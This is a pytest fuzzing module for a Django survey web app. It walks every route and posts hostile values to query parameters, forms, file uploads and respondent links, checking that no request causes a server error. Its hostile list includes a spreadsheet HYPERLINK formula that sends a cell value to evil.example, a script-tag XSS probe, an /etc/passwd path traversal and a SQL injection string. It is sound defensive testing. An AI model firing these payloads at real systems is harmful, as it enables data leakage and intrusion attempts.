"""A fuzzing pass over every input path of the web app: hostile values never give a 500.

For every URL pattern of the project (read from the URL configuration, so a new view is
covered the day it is added), one test:

- opens it (as the organization's administrator, or with an API token) with hostile values
  in every query parameter the product reads (``?wave=…&unit=…&q=…``, …);
- posts every form that page shows with each hostile value in all of its fields, and a
  hostile file in each file field;
- for the respondent links, opens and posts them with hostile tokens and answers.

Every answer must be a page or an error the product chose (2xx, 3xx, 4xx), never a server
error. The hostile values: a NUL character, 200,000 characters, a spreadsheet formula,
markup, right-to-left and astral-plane text, numbers out of every range, a path, SQL.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from clinwell.web.accounts.models import User
from clinwell.web.actions.models import Milestone
from clinwell.web.api.tokens import create_token
from clinwell.web.orgs.models import Organization
from clinwell.web.orgs.services.organizations import delete_organization
from clinwell.web.results.services.cache import results_for
from clinwell.web.surveys.models import Invitation
from clinwell.web.surveys.services.tokens import invitation_token
from clinwell.web.surveys.services.waves import ensure_anonymous_link
from tests.web.actions.conftest import make_plan
from tests.web.conftest import build_cast
from tests.web.results.conftest import CLEAN_SIZES, add_responses, closed_wave
from tests.web.surveys.conftest import make_wave

HOSTILE = [
    "\x00",
    "x" * 200_000,
    '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
    "<script>alert(1)</script>",
    "\u202e RTL 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀",
    "-1",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "../../../etc/passwd",
    "' OR 1=1 --",
    "",
]
QUERY_PARAMETERS = [
    "wave",
    "unit",
    "q",
    "kind",
    "measure",
    "level",
    "role",
    "state",
    "format",
    "status",
    "page",
    "source",
    "domain",
    "driver",
    "intervention",
    "physicians",
    "turnover",
    "cost_per_departure",
]
HOSTILE_FILES = [
    ("hostile.csv", b"email,name,unit,role\n" + b"a@b.c," + b"x" * 200_000 + b",u,r\n"),
    ("hostile.csv", b"email,name,unit,role\na@b.c,Na\x00me,u,physician\n"),
    ("hostile.csv", b"\xff\xfe\x00garbage"),
    ("hostile.xlsx", b"PK\x03\x04 not really a workbook"),
    ("hostile.exe", b"MZ"),
]
SKIPPED_MODULES = ("django.contrib", "django.views.generic", "functools")


@dataclass(frozen=True)
class Route:
    pattern: str
    name: str

    def __str__(self) -> str:
        return self.pattern


def _routes(patterns: Any = None, prefix: str = "") -> Iterator[Route]:
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(entry, URLResolver):
            yield from _routes(entry.url_patterns, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            module = entry.callback.__module__
            pattern = prefix + str(entry.pattern)
            if module.startswith(SKIPPED_MODULES) and not pattern.startswith("api/"):
                continue  # Django's own admin and redirects
            if pattern.startswith("admin/"):
                continue
            yield Route(pattern, entry.name or pattern)


ROUTES = sorted({r.pattern: r for r in _routes()}.values(), key=lambda r: r.pattern)


@dataclass
class World:
    """One organization with a bit of everything, committed once for the module."""

    values: dict[str, str]
    token: str
    owner: User
    extra: dict[str, Any] = field(default_factory=dict)


@pytest.fixture(scope="module")
def world(django_db_setup: None, django_db_blocker: Any) -> Iterator[World]:
    with django_db_blocker.unblock():
        cast = build_cast()
        open_wave = make_wave(cast, closes_at=timezone.now() + timedelta(days=5))
        closed = closed_wave(cast.alpha, "Closed wave", 5)
        for i, (path, n) in enumerate(CLEAN_SIZES.items()):
            add_responses(closed, cast.unit(cast.alpha, path), n, 900 + i)
        results_for(closed)
        draft = make_wave(cast, launch=False, name="Draft wave")
        unit = cast.unit(cast.alpha, "Alpha Health/Site A/Medicine")
        plan = make_plan(cast, "Alpha Health/Site A/Medicine", started_on=date(2026, 1, 5))
        milestone = Milestone.objects.create(plan=plan, title="First step")
        link = ensure_anonymous_link(open_wave, unit)
        invitation = Invitation.objects.filter(wave=open_wave).first()
        assert invitation is not None
        _, api_token = create_token(cast.owner, "fuzz")
        values = {
            "org_slug": "alpha",
            "wave_id": str(open_wave.pk),
            "unit_id": str(unit.pk),
            "plan_id": str(plan.pk),
            "milestone_id": str(milestone.pk),
            "intervention_id": "protected-documentation-time",
            "kind": "roster",
            "token_id": "1",
        }
        yield World(
            values=values,
            token=api_token,
            owner=cast.owner,
            extra={
                "invitation_token": invitation_token(invitation.id),
                "link_token": link.token,
                "waves": [open_wave.pk, closed.pk, draft.pk],
            },
        )
        for org in Organization.objects.filter(slug__in=["alpha", "beta"]):
            delete_organization(org)
        User.objects.all().delete()


def _path(route: Route, values: dict[str, str]) -> str | None:
    def fill(match: re.Match[str]) -> str:
        name = match.group(2)
        if name not in values:
            raise KeyError(name)
        return values[name]

    try:
        return "/" + re.sub(r"<(?:(\w+):)?(\w+)>", fill, route.pattern)
    except KeyError:
        return None


class _Forms(HTMLParser):
    """The POST forms of a page: action and fields (name -> first value, kind)."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[dict[str, Any]] = []
        self._current: dict[str, Any] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "form":
            method = (a.get("method") or "get").lower()
            self._current = {"action": a.get("action") or "", "method": method, "fields": {}}
            self.forms.append(self._current)
        elif tag in ("input", "select", "textarea") and self._current is not None:
            name = a.get("name")
            if not name or name == "csrfmiddlewaretoken":
                return
            kind = a.get("type", tag) or tag
            self._current["fields"].setdefault(name, (a.get("value") or "", kind))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._current = None


def _assert_handled(response: Any, what: str) -> None:
    assert response.status_code < 500, f"{what}: {response.status_code}"


@pytest.mark.django_db
@pytest.mark.parametrize("route", ROUTES, ids=str)
def test_hostile_input_never_gives_a_server_error(world: World, route: Route) -> None:
    client = Client(raise_request_exception=False)
    client.force_login(world.owner)
    headers = {"HTTP_AUTHORIZATION": f"Bearer {world.token}"}
    if route.pattern in ("s/<str:token>/", "a/<str:token>/"):
        _fuzz_respondent_link(client, route, world)
        return
    paths = []
    if "wave_id" in route.pattern:
        for wave_id in world.extra["waves"]:
            paths.append(_path(route, {**world.values, "wave_id": str(wave_id)}))
    else:
        paths.append(_path(route, world.values))
    for path in [p for p in paths if p is not None]:
        for value in HOSTILE:
            query = dict.fromkeys(QUERY_PARAMETERS, value)
            _assert_handled(client.get(path, query, **headers), f"GET {path} ?…={value[:20]!r}")
        page = client.get(path, **headers)
        _assert_handled(page, f"GET {path}")
        if "text/html" not in page.get("Content-Type", ""):
            continue  # files and JSON: their parameters were fuzzed above
        parser = _Forms()
        parser.feed(page.content.decode())
        for form in [f for f in parser.forms if f["method"] == "post"]:
            target = form["action"] or path
            _fuzz_form(client, target, form["fields"])


def _fuzz_form(client: Client, target: str, fields: dict[str, tuple[str, str]]) -> None:
    files = [name for name, (_, kind) in fields.items() if kind == "file"]
    for value in HOSTILE:
        data: dict[str, Any] = {
            name: value for name, (_, kind) in fields.items() if kind not in ("file", "hidden")
        }
        data.update({n: v for n, (v, kind) in fields.items() if kind == "hidden"})
        for name in files:
            upload = io.BytesIO(b"email,unit,role\n")
            upload.name = "empty.csv"
            data[name] = upload
        _assert_handled(client.post(target, data), f"POST {target} with {value[:20]!r}")
    for name in files:
        for filename, content in HOSTILE_FILES:
            upload = io.BytesIO(content)
            upload.name = filename
            data = {n: v for n, (v, kind) in fields.items() if kind != "file"}
            data[name] = upload
            _assert_handled(client.post(target, data), f"POST {target} file {filename}")


def _fuzz_respondent_link(client: Client, route: Route, world: World) -> None:
    real = world.extra["invitation_token" if route.pattern.startswith("s/") else "link_token"]
    prefix = route.pattern.split("/")[0]
    for token in [real, "%00", "x" * 300, "..%2F..%2Fetc", "' OR 1=1 --", "\u202e"]:
        _assert_handled(client.get(f"/{prefix}/{token}/"), f"GET /{prefix}/{token[:20]}/")
    page = client.get(f"/{prefix}/{real}/")
    parser = _Forms()
    parser.feed(page.content.decode())
    (form,) = [f for f in parser.forms if f["method"] == "post"]
    for value in HOSTILE:
        data = dict.fromkeys(form["fields"], value)
        data["nonce"] = form["fields"].get("nonce", ("", ""))[0]
        _assert_handled(client.post(f"/{prefix}/{real}/", data), f"POST /{prefix}/ {value[:20]!r}")
    # a NUL in the comment of an otherwise good answer: recorded, NUL dropped
    answers = {"q:single_item_burnout.1": "3", "comment": "More\x00 staff", "nonce": "fuzz"}
    response = client.post(f"/{prefix}/{real}/", answers)
    assert response.status_code == 200
    assert "your answers are recorded" in response.content.decode()


def test_every_route_is_fuzzed() -> None:
    """The walk finds the product's pages, its API and the respondent links."""
    patterns = {r.pattern for r in ROUTES}
    assert "o/<slug:org_slug>/settings/import/roster/" in patterns
    assert "api/v1/orgs/<org_slug>/knowledge/resources" in patterns
    assert "s/<str:token>/" in patterns
    assert len(ROUTES) > 60
